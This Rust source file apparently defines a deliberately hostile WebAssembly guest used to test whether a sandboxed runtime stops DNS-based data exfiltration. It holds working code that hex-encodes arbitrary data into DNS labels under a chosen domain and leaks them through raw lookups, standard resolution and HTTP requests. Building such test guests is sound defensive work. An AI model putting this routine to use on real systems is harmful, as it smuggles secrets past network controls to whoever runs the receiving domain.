//! Hostile: smuggles data out in the names it looks up (see `wit/world.wit`).

are_guest_sdk::generate!({ world: "hostile" });

use std::collections::BTreeMap;
use std::net::ToSocketAddrs;
use std::time::{Duration, Instant};

use are_guest_sdk::wasip2::sockets::instance_network::instance_network;
use are_guest_sdk::wasip2::sockets::ip_name_lookup::{ErrorCode, resolve_addresses};
use exports::hostile::dns_exfil::attack::{ExfilReport, Guest};

/// The longest label a chunk may fill (DNS allows 63; the rest is room for the sequence number).
const CHUNK: usize = 60;

struct DnsExfil;

impl Guest for DnsExfil {
    fn raw_lookups(data: String, domain: String, rounds: u32) -> ExfilReport {
        let network = instance_network();
        exfiltrate(&data, &domain, rounds, |name| {
            let stream =
                resolve_addresses(&network, name).map_err(|e| describe("resolve-addresses", e))?;
            let pollable = stream.subscribe();
            let mut found = 0;
            loop {
                match stream.resolve_next_address() {
                    Ok(Some(_)) => found += 1,
                    Ok(None) => return Ok(found),
                    Err(ErrorCode::WouldBlock) => pollable.block(),
                    Err(e) => return Err(describe("resolve-next-address", e)),
                }
            }
        })
    }

    fn std_lookups(data: String, domain: String, rounds: u32) -> ExfilReport {
        exfiltrate(&data, &domain, rounds, |name| {
            (name, 53)
                .to_socket_addrs()
                .map(Iterator::count)
                .map_err(|e| e.to_string())
        })
    }

    fn http_lookups(data: String, domain: String, port: u16, rounds: u32) -> ExfilReport {
        exfiltrate(&data, &domain, rounds, |name| {
            are_guest_sdk::http::Request::get(&format!("http://{name}:{port}/"))
                .max_body_bytes(64)
                .timeout(Duration::from_secs(2))
                .send()
                .map(|_| 1)
                .map_err(|e| e.to_string())
        })
    }
}

export!(DnsExfil);

/// The names that carry `data`: `<seq>-<hex chunk>.<domain>`, `rounds` times over.
fn names(data: &str, domain: &str, rounds: u32) -> Vec<String> {
    let hex: String = data.bytes().map(|b| format!("{b:02x}")).collect();
    let chunks: Vec<&str> = if hex.is_empty() {
        vec!["00"]
    } else {
        hex.as_bytes()
            .chunks(CHUNK)
            .map(|c| std::str::from_utf8(c).unwrap_or("00"))
            .collect()
    };
    (0..rounds.max(1))
        .flat_map(|round| {
            chunks
                .iter()
                .enumerate()
                .map(move |(i, chunk)| format!("{round}x{i}-{chunk}.{domain}"))
        })
        .collect()
}

/// Looks up every name with `lookup`, tallying what happened.
fn exfiltrate(
    data: &str,
    domain: &str,
    rounds: u32,
    mut lookup: impl FnMut(&str) -> Result<usize, String>,
) -> ExfilReport {
    let started = Instant::now();
    let names = names(data, domain, rounds);
    let mut resolved = 0;
    let mut errors: BTreeMap<String, u32> = BTreeMap::new();
    for name in &names {
        match lookup(name) {
            Ok(_) => resolved += 1,
            // The name is in most messages; keep the error's kind so that the tally groups them.
            Err(e) => {
                *errors
                    .entry(e.replace(name.as_str(), "<name>"))
                    .or_default() += 1
            }
        }
    }
    ExfilReport {
        names: names.len() as u32,
        resolved,
        errors: errors.into_iter().collect(),
        elapsed_us: started.elapsed().as_micros() as u64,
    }
}

fn describe(step: &str, code: ErrorCode) -> String {
    format!("{step}: {}", code.name())
}
